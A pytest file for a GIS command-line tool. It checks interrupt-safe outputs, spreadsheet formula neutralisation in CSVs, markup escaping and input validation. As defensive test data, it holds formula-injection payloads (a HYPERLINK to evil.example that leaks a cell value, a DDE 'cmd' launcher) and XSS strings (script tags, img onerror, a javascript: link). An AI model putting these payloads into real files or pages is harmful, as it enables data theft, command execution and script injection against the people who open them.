"""Nothing lost, nothing injected: the CLI's promises under interruption and hostile input.

Every case goes through the command line on real files (the demo county, CSV, Excel,
GeoPackage): interrupted runs leave whole, manifest-consistent outputs; spreadsheet
formulas are neutralised in CSVs but kept in GeoPackages; data strings never act as Rich
markup; population points outside the county are rejected with their distance; and
common mistakes (a renamed CSV, a read-only folder...) are one clear line.
"""

from __future__ import annotations

import csv
import os
import random
import signal
import subprocess
import sys
import time
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
from shapely import Point

import localitygis
from localitygis.cli import build as build_module
from localitygis.cli import main
from localitygis.io import (
    FORMULA_STARTS,
    MANIFEST,
    read_manifest,
    read_table,
    verify_outputs,
    write_geopackage,
)
from localitygis.provenance import DEMO
from tests._clidata import build_demo, demo_build_args, demo_folder, fails, ok

ROOT = Path(localitygis.__file__).resolve().parents[1]

HOSTILE = {
    "A1": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "A2": "+cmd|' /C calc'!A0",
    "A3": "@SUM(1+1)",
    "A4": "\t=1+2",
    "A5": "-2+3",
    "A6": "Plain Library",
}


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    """A localities.gpkg built from the demo county by ``localitygis build``."""
    return build_demo(tmp_path_factory.mktemp("build"))


def _cli(args: list[str], **kwargs) -> subprocess.Popen[str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT), "COLUMNS": "200"}
    return subprocess.Popen(
        [sys.executable, "-m", "localitygis.cli", *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
        **kwargs,
    )


def _register(path: Path, names: dict[str, str], *, cost: str = "250") -> Path:
    """A register of libraries in Hereford, named by ``names`` (asset id -> name)."""
    rows = [
        {
            "asset_id": asset_id,
            "name": name,
            "category": "library",
            "partner": "Herefordshire Council",
            "sector": "council",
            "easting": 350880 + 10 * i,
            "northing": 239843,
            "annual_cost": cost,
        }
        for i, (asset_id, name) in enumerate(names.items())
    ]
    pd.DataFrame(rows).to_csv(path, index=False)
    return path


def _csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


# --------------------------------------------------------------------------------------
# 1. Atomic outputs: interrupt real runs at random points


def _folder_is_consistent(out: Path) -> dict:
    """Assert every output in ``out`` is whole and as the manifest lists it."""
    assert verify_outputs(out) == []
    leftovers = [p.name for p in out.iterdir() if p.name.startswith(".")]
    assert leftovers == [], leftovers
    manifest = read_manifest(out)
    listed = {name for entry in manifest["sets"].values() for name in entry["files"]}
    present = {p.name for p in out.iterdir()} - {MANIFEST}
    assert present == listed
    for entry in manifest["sets"].values():
        for name, wanted in entry["files"].items():
            if name.endswith(".csv"):
                assert len(_csv_cells(out / name)) - 1 == wanted["rows"]
            if name.endswith(".gpkg"):
                layers = {
                    str(n): int(pyogrio.read_info(out / name, layer=str(n))["features"])
                    for n, _ in pyogrio.list_layers(out / name)
                }
                assert layers == wanted["rows"]
    return manifest


def _interrupt_at_random(out: Path, runs: list[list[str]], seed: int) -> None:
    """Run ``runs[0]`` whole, then the runs in turn, interrupted at random points.

    After every run, each output in ``out`` is whole and as the manifest lists it; a run
    that says "no files were changed" changed none.
    """
    started = time.perf_counter()
    first = _cli(runs[0])
    _, err = first.communicate(timeout=300)
    assert first.returncode == 0, err
    whole_run = time.perf_counter() - started  # the delays span start-up, work and writing
    _folder_is_consistent(out)
    chance = random.Random(seed)
    outcomes = set()
    for attempt in range(8):
        snapshot = {p.name: p.read_bytes() for p in out.iterdir()}
        process = _cli(runs[(attempt + 1) % len(runs)])
        try:
            process.wait(timeout=chance.uniform(0.1, 1.1) * whole_run)
        except subprocess.TimeoutExpired:
            process.send_signal(chance.choice([signal.SIGINT, signal.SIGTERM]))
        _, err = process.communicate(timeout=300)
        # 130 is the command's own exit on an interrupt; -SIGINT was seen once in a fresh
        # clone (the message printed, then the process ended by the signal). What matters is
        # checked either way: one line, no traceback, every output whole or unchanged.
        assert process.returncode in (0, 130, -signal.SIGINT), err
        assert "Traceback" not in err
        _folder_is_consistent(out)
        if process.returncode in (130, -signal.SIGINT):
            assert "interrupted;" in err
            if "no files were changed" in err:
                assert {p.name: p.read_bytes() for p in out.iterdir()} == snapshot
        outcomes.add(130 if process.returncode == -signal.SIGINT else process.returncode)
    assert 130 in outcomes  # the delays do interrupt some runs


@pytest.mark.slow
def test_interrupted_build_leaves_whole_outputs_or_the_previous_set(tmp_path: Path) -> None:
    demo = demo_folder()
    out = tmp_path / "out"
    gpkg = demo / "demo_county.gpkg"
    lookup = ["--parishes", str(gpkg), "--lookup", str(demo / "parish_catchment_lookup.csv"),
              "--scheme", "demo", "--out", str(out)]  # fmt: skip
    _interrupt_at_random(out, [demo_build_args(out), ["build", *lookup]], seed=20261203)
    layers = read_manifest(out)["sets"]["build"]["files"]["localities.gpkg"]["rows"]
    assert set(layers) == {"parishes", "catchments", "localities"}


@pytest.mark.slow
def test_interrupted_assets_leave_whole_outputs_or_the_previous_set(built, tmp_path) -> None:
    demo = demo_folder()
    out = tmp_path / "out"
    register = ["assets", str(demo / "asset_register.csv"), "-l", str(built), "--out", str(out)]
    postcodes = ["--postcodes", str(demo / "postcode_directory.csv")]
    _interrupt_at_random(out, [[*register, *postcodes], register], seed=10)
    files = read_manifest(out)["sets"]["assets"]["files"]
    register_rows = len(read_table(demo / "asset_register.csv"))
    assert files["assets.csv"]["rows"] + files["asset_rejects.csv"]["rows"] == register_rows


def test_a_failed_geopackage_write_keeps_the_previous_file(tmp_path: Path, monkeypatch) -> None:
    layer = gpd.GeoDataFrame({"a": [1]}, geometry=[Point(351000, 240000)], crs=27700)
    path = write_geopackage(tmp_path / "x.gpkg", {"one": layer}, provenance=DEMO)
    previous = path.read_bytes()
    calls = []
    real = pyogrio.write_dataframe

    def second_layer_fails(*args, **kwargs):
        calls.append(kwargs["layer"])
        if len(calls) == 2:
            raise KeyboardInterrupt
        return real(*args, **kwargs)

    monkeypatch.setattr(pyogrio, "write_dataframe", second_layer_fails)
    with pytest.raises(KeyboardInterrupt):
        write_geopackage(path, {"one": layer, "two": layer}, provenance=DEMO)
    assert path.read_bytes() == previous
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.gpkg"]


def test_build_removes_its_stale_optional_files(tmp_path: Path) -> None:
    out = tmp_path / "out"
    (out).mkdir()
    (out / "rejects.csv").write_text("source,row,reason\nparishes,1,stale\n")
    (out / "notes.txt").write_text("mine")  # not the command's: kept
    build_demo(out)
    assert not (out / "rejects.csv").exists()
    assert (out / "notes.txt").read_text() == "mine"
    assert "rejects.csv" not in read_manifest(out)["sets"]["build"]["files"]


def test_renamed_locality_leaves_no_stale_map(built: Path, tmp_path: Path) -> None:
    maps = tmp_path / "localities"
    ok(["map", "locality", "--localities", str(built), "--out", str(maps)])
    names = sorted(p.name for p in maps.glob("*.html"))
    assert "golden-valley.html" in names
    layers = {n: gpd.read_file(built, layer=n) for n in ("parishes", "catchments", "localities")}
    for frame in layers.values():
        if "locality" in frame:
            frame["locality"] = frame["locality"].replace("Golden Valley", "Dore Valley")
    renamed = write_geopackage(
        tmp_path / "renamed.gpkg",
        {n: f.drop(columns="attribution") for n, f in layers.items()},
        provenance=DEMO,
    )
    ok(["map", "locality", "--localities", str(renamed), "--out", str(maps)])
    after = sorted(p.name for p in maps.glob("*.html"))
    assert "golden-valley.html" not in after
    assert "dore-valley.html" in after
    assert len(after) == len(names)
    assert verify_outputs(maps) == []


# --------------------------------------------------------------------------------------
# 2. Spreadsheet formula injection


def test_formulas_are_neutralised_in_csv_but_kept_in_the_geopackage(built, tmp_path) -> None:
    register = _register(tmp_path / "register.csv", HOSTILE)
    bad = pd.read_csv(register, dtype=str)
    bad.loc[len(bad)] = ["A7", "=1+1", "@nonsense", "x", "council", "1", "1", "-12.5"]
    bad.to_csv(register, index=False)
    out = tmp_path / "out"
    ok(["assets", str(register), "--localities", str(built), "--out", str(out)])
    located = gpd.read_file(out / "assets.gpkg", layer="assets")
    assert dict(zip(located["asset_id"], located["name"], strict=True)) == HOSTILE
    for name in ("assets.csv", "asset_rejects.csv"):
        cells = [cell for row in _csv_cells(out / name) for cell in row]
        risky = [c for c in cells if c.startswith(FORMULA_STARTS)]
        numbers = [c for c in risky if _is_number(c)]
        assert risky == numbers, name
    table = pd.read_csv(out / "assets.csv", dtype=str, encoding="utf-8-sig")
    shown = dict(zip(table["asset_id"], table["name"], strict=True))
    assert shown == {k: ("'" + v if v != "Plain Library" else v) for k, v in HOSTILE.items()}
    rejects = _csv_cells(out / "asset_rejects.csv")
    assert any("'=1+1" in row for row in rejects)
    assert any("'@nonsense" in row for row in rejects)
    assert any("-12.5" in row for row in rejects)  # numbers are left alone


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --------------------------------------------------------------------------------------
# 4. Rich markup never eats data


def test_brackets_in_file_names_and_messages_are_printed_as_they_are(
    built, tmp_path, capsys
) -> None:
    missing = tmp_path / "register [v3].csv"
    message = fails(["assets", str(missing), "--localities", str(built)], capsys)
    assert "register [v3].csv" in message
    scheme = tmp_path / "scheme.toml"
    scheme.write_text('name = "x"\noverrides = "Old Parish [/merged 2019]"\n')
    gpkg = str(demo_folder() / "demo_county.gpkg")
    message = fails(
        ["build", "-p", gpkg, "-c", f"{gpkg}#catchments", "--scheme", str(scheme)], capsys
    )
    assert "[[overrides]]" in message
    scheme.write_text(
        '[scheme]\nname = "x"\n[tiers.1]\nname = "Rural"\n[[localities]]\nname = "All"\ntier = 1\n'
        'catchments = ["Weobley"]\n[[overrides]]\nparish = "Old Parish [/merged 2019]"\n'
        'locality = "All"\nreason = "merged"\n'
    )
    lookup = str(demo_folder() / "parish_catchment_lookup.csv")
    message = fails(["build", "-p", gpkg, "--lookup", lookup, "--scheme", str(scheme)], capsys)
    assert "override 1 'Old Parish [/merged 2019]'" in message
    bad_column = fails(
        ["assets", "r.csv", "-l", "x.gpkg", "--column", "Old Parish [/merged 2019]"], capsys
    )
    assert "Old Parish [/merged 2019]" in bad_column


def test_help_shows_bracketed_words(capsys) -> None:
    assert main(["assets", "--help"]) == 0
    out = " ".join(capsys.readouterr().out.replace("│", " ").split())
    assert "Scheme whose [vocabulary] extends" in out


def test_locality_names_with_markup_reach_the_table(tmp_path: Path) -> None:
    scheme = tmp_path / "odd.toml"
    text = (ROOT / "localitygis" / "data" / "demo_scheme.toml").read_text("utf-8")
    scheme.write_text(text.replace('name = "Golden Valley"', 'name = "Golden [/Valley]"'))
    args = demo_build_args(tmp_path / "out")
    args[args.index("demo")] = str(scheme)
    result = ok(args)
    assert "Golden [/Valley]" in result.output


# --------------------------------------------------------------------------------------
# 5. Hub population points checked against the county


def test_hub_population_points_outside_or_swapped_are_rejected(built, tmp_path) -> None:
    demo = demo_folder()
    points = gpd.read_file(demo / "demo_county.gpkg", layer="population_points")
    table = pd.DataFrame(
        {
            "area_code": points["area_code"] if "area_code" in points else range(len(points)),
            "population": points["population"],
            "easting": points.geometry.x.round(1),
            "northing": points.geometry.y.round(1),
        }
    )
    swapped, sea = 3, 7
    east, north = table.loc[swapped, "easting"], table.loc[swapped, "northing"]
    table.loc[swapped, ["easting", "northing"]] = [north, east]
    table.loc[sea, ["easting", "northing"]] = [150000.0, 200000.0]  # Cardigan Bay
    table["population"] = table["population"].astype(object)
    table.loc[9, "population"] = "-100"
    path = tmp_path / "people.csv"
    table.to_csv(path, index=False)
    assets = tmp_path / "assets"
    ok(["assets", str(demo / "asset_register.csv"), "-l", str(built),
        "--postcodes", str(demo / "postcode_directory.csv"), "--out", str(assets)])  # fmt: skip
    out = tmp_path / "hubs"
    result = ok(["hubs", "-a", str(assets / "assets.gpkg"), "-l", str(built), "-k", "2",
                 "--population", str(path), "--out", str(out)])  # fmt: skip
    text = " ".join(result.output.split())
    assert f"population points: {len(table):,} read, {len(table) - 3:,} used, 3 rejected" in text
    rejects = read_table(out / "population_rejects.csv")
    assert rejects["row"].astype(int).tolist() == [swapped + 2, sea + 2, 9 + 2]
    reasons = rejects["reason"].tolist()
    assert reasons[0].startswith("easting and northing look swapped")
    assert reasons[1].startswith("outside the county")
    assert "-100" in reasons[2]
    assert "np.float64" not in reasons[2]
    assert float(rejects["distance_m"].iloc[1]) > 100_000
    profiled = ok(["profile", "-l", str(built), "--hubs", str(out / "hubs.gpkg"),
                   "--population", str(path), "--out", str(tmp_path / "profiles")])  # fmt: skip
    text = " ".join(profiled.output.split())
    assert f"row {swapped + 2}: easting and northing look swapped" in text
    assert "population_rejects.csv" not in text


def test_hubs_says_the_k_it_used(built, tmp_path) -> None:
    register = _register(tmp_path / "few.csv", {f"L{i}": f"Library {i}" for i in range(3)})
    assets = tmp_path / "assets"
    ok(["assets", str(register), "-l", str(built), "--out", str(assets)])
    result = ok(["hubs", "-a", str(assets / "assets.gpkg"), "-l", str(built), "-k", "500",
                 "--out", str(tmp_path / "hubs")])  # fmt: skip
    text = " ".join(result.output.split())
    assert "k = 3 (500 asked for; there are only 3 distinct candidate sites)" in text
    assert "k = 500" not in text


# --------------------------------------------------------------------------------------
# 7. A scheme name is not a folder


def test_a_folder_named_like_a_scheme_does_not_hide_it(tmp_path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    Path("demo").mkdir()
    args = demo_build_args(Path("demo") / "data")
    ok(args)
    assert (tmp_path / "demo" / "data" / "localities.gpkg").exists()
    args[args.index("demo")] = "./demo"
    assert "scheme file demo is a folder" in fails(args, capsys)


# --------------------------------------------------------------------------------------
# 8. One-line errors, and the output folder checked before the work


def _read_only_folder(tmp_path: Path) -> Path:
    if os.geteuid() != 0:
        folder = tmp_path / "read-only"
        folder.mkdir()
        folder.chmod(0o555)
        return folder
    return Path("/sys")  # not writable even by root


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", "is empty (0 bytes)"),
        (b"asset_id,name\nA1,Library\n", "is named .xlsx but is a text (CSV) file"),
    ],
)
def test_bad_workbooks_are_one_line(built, tmp_path, capsys, content, expected) -> None:
    register = tmp_path / "register.xlsx"
    register.write_bytes(content)
    message = fails(["assets", str(register), "-l", str(built), "--out", str(tmp_path)], capsys)
    assert expected in message
    assert "register.xlsx" in message
    lookup = fails(
        ["build", "-p", str(demo_folder() / "demo_county.gpkg"), "--lookup", str(register),
         "--out", str(tmp_path / "o")],
        capsys,
    )  # fmt: skip
    assert expected in lookup


def test_unwritable_outputs_fail_before_the_work(tmp_path, capsys, monkeypatch) -> None:
    def never(*args, **kwargs):
        raise AssertionError("the work started before the output folder was checked")

    monkeypatch.setattr(build_module, "read_parishes", never)
    file = tmp_path / "taken"
    file.write_text("x")
    for out, expected in (
        (file, "is an existing file"),
        (file / "sub", "is an existing file"),
        (_read_only_folder(tmp_path) / "out", "cannot write to output folder"),
    ):
        args = demo_build_args(out)
        message = fails(args, capsys)
        assert expected in message
        assert str(out) in message
    for command in (
        ["colocate", "a.gpkg", "--out", str(file)],
        ["hubs", "-a", "a.gpkg", "-l", "l.gpkg", "--out", str(file)],
        ["profile", "-l", "l.gpkg", "--out", str(file)],
        ["assets", "r.csv", "-l", "l.gpkg", "--out", str(file)],
        ["map", "county", "-l", "l.gpkg", "--out", str(tmp_path)],
        ["atlas", "-l", "l.gpkg", "--out", str(tmp_path)],
        ["demo", "--out", str(file)],
    ):
        message = fails(command, capsys)
        assert "is an existing file" in message or "is a folder" in message, command


# --------------------------------------------------------------------------------------
# Should-fix items


def test_profiles_markdown_escapes_register_strings(built, tmp_path) -> None:
    names = {"X1": "<script>alert(1)</script>", "X2": "Library"}
    register = _register(tmp_path / "r.csv", names)
    frame = pd.read_csv(register, dtype=str)
    frame["partner"] = ['<img src=x onerror="alert(1)">', "[click](javascript:alert(1))"]
    frame.to_csv(register, index=False)
    assets = tmp_path / "assets"
    ok(["assets", str(register), "-l", str(built), "--out", str(assets)])
    out = tmp_path / "profiles"
    ok(["profile", "-l", str(built), "-a", str(assets / "assets.gpkg"), "--out", str(out)])
    markdown = (out / "profiles.md").read_text("utf-8")
    assert "&lt;img src=x onerror" in markdown
    assert "<img" not in markdown
    assert "<script" not in markdown
    assert "\\[click\\](javascript:alert(1))" in markdown
    assert "<img" not in (out / "profiles.html").read_text("utf-8")


def test_excel_register_with_a_title_row(built, tmp_path) -> None:
    frame = pd.read_csv(_register(tmp_path / "r.csv", {"B1": "Library", "B2": "Hall"}))
    frame.loc[1, "category"] = "Liberry"
    workbook = tmp_path / "register.xlsx"
    with pd.ExcelWriter(workbook) as writer:
        pd.DataFrame([["Asset register — March"]]).to_excel(
            writer, index=False, header=False, startrow=0
        )
        frame.to_excel(writer, index=False, startrow=2)
    for extra in ([], ["--header-row", "3"]):
        out = tmp_path / f"out{len(extra)}"
        ok(["assets", str(workbook), "-l", str(built), "--out", str(out), *extra])
        assert read_table(out / "assets.csv")["asset_id"].tolist() == ["B1"]
        rejects = read_table(out / "asset_rejects.csv")
        assert rejects["row"].tolist() == ["5"]  # title row 1, blank row 2, header row 3


def test_utf16_register_is_read(built, tmp_path) -> None:
    register = _register(tmp_path / "r.csv", {"C1": "Café Library", "C2": "Hall"})
    utf16 = tmp_path / "utf16.csv"
    utf16.write_text(register.read_text("utf-8"), encoding="utf-16")
    out = tmp_path / "out"
    ok(["assets", str(utf16), "-l", str(built), "--out", str(out)])
    assert read_table(out / "assets.csv")["name"].tolist() == ["Café Library", "Hall"]


def test_negative_parish_population_is_a_plain_number(tmp_path, capsys) -> None:
    gpkg = demo_folder() / "demo_county.gpkg"
    parishes = gpd.read_file(gpkg, layer="parishes")
    parishes["population"] = parishes["population"].astype(float)
    parishes.loc[0, "population"] = -100.0
    path = tmp_path / "parishes.gpkg"
    parishes.to_file(path, layer="parishes")
    message = fails(
        ["build", "-p", str(path), "-c", f"{gpkg}#catchments", "--scheme", "demo",
         "--out", str(tmp_path / "o")],
        capsys,
    )  # fmt: skip
    assert "(-100)" in message
    assert "np.float64" not in message


def test_ctrl_c_says_no_files_were_changed(tmp_path: Path) -> None:
    process = _cli(demo_build_args(tmp_path / "out"))
    try:
        process.wait(timeout=1.0)
    except subprocess.TimeoutExpired:
        process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=300)
    if process.returncode == 0:
        pytest.skip("the build finished before the interrupt")
    assert process.returncode == 130
    assert err.strip().splitlines()[-1] == "interrupted; no files were changed"
    assert "Traceback" not in err
    out = tmp_path / "out"
    assert not out.exists() or [p.name for p in out.iterdir()] == []
